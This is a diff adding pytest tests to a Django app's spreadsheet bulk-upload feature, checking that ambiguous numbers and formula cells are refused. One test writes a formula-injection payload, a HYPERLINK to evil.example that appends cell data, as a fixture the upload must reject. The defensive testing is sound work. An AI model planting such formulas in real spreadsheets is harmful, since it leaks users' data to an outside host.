@@ -252,3 +252,45 @@ def test_report_page_links_the_bulk_entry(client, cast, report):
     login_verified(client, cast.officer)
     page = client.get(reverse("rounds:report_detail", args=[report.pk])).content.decode()
     assert reverse("analytics:bulk_entry", args=[report.pk]) in page
+
+
+def test_a_figure_that_reads_two_ways_is_refused_with_both_readings(client, cast, report):
+    login_verified(client, cast.officer)
+    content = fill(download(client, report), {("trainings", "Bắc Giang"): ("43,000", None)})
+    response = upload(client, report, content)
+    text = response.content.decode()
+    assert response.status_code == 400
+    assert (
+        "Dòng 2: «43,000» có thể hiểu là 43 hoặc 43.000. Nếu là bốn mươi ba nghìn, "
+        "hãy gõ 43.000; nếu là 43, hãy gõ 43." in text
+    )
+    assert stored(report) == {("trainings", "Bắc Giang"): (Decimal(4), Qualifier.EXACT)}
+
+
+def test_formula_cells_are_refused_by_cell_and_never_read_as_empty(client, cast, report):
+    login_verified(client, cast.officer)
+    book = load_workbook(io.BytesIO(download(client, report)))
+    sheet = book[DATA_SHEET]
+    sheet["F2"] = "=1+1"  # saved without a cached value: read as data it would clear the 4
+    sheet["G3"] = '=HYPERLINK("http://evil.example/?d="&A3,"x")'
+    out = io.BytesIO()
+    book.save(out)
+    response = upload(client, report, out.getvalue())
+    text = response.content.decode()
+    assert response.status_code == 400
+    assert "Ô F2 chứa công thức («=1+1»)" in text
+    assert "Ô G3 chứa công thức" in text
+    assert stored(report) == {("trainings", "Bắc Giang"): (Decimal(4), Qualifier.EXACT)}
+    assert not AuditRecord.objects.filter(action="value").exists()
+
+
+def test_template_holds_the_exact_stored_value(client, cast, report):
+    make_value(
+        "students_reached_pct", cast.bdt, "33.2417", period=report.round.period, report=report
+    )
+    login_verified(client, cast.officer)
+    rows = load_workbook(io.BytesIO(download(client, report)))[DATA_SHEET].iter_rows(
+        min_row=2, values_only=True
+    )
+    values = {(row[0], row[4]): row[5] for row in rows}
+    assert Decimal(str(values["students_reached_pct", "Bắc Giang"])) == Decimal("33.2417")
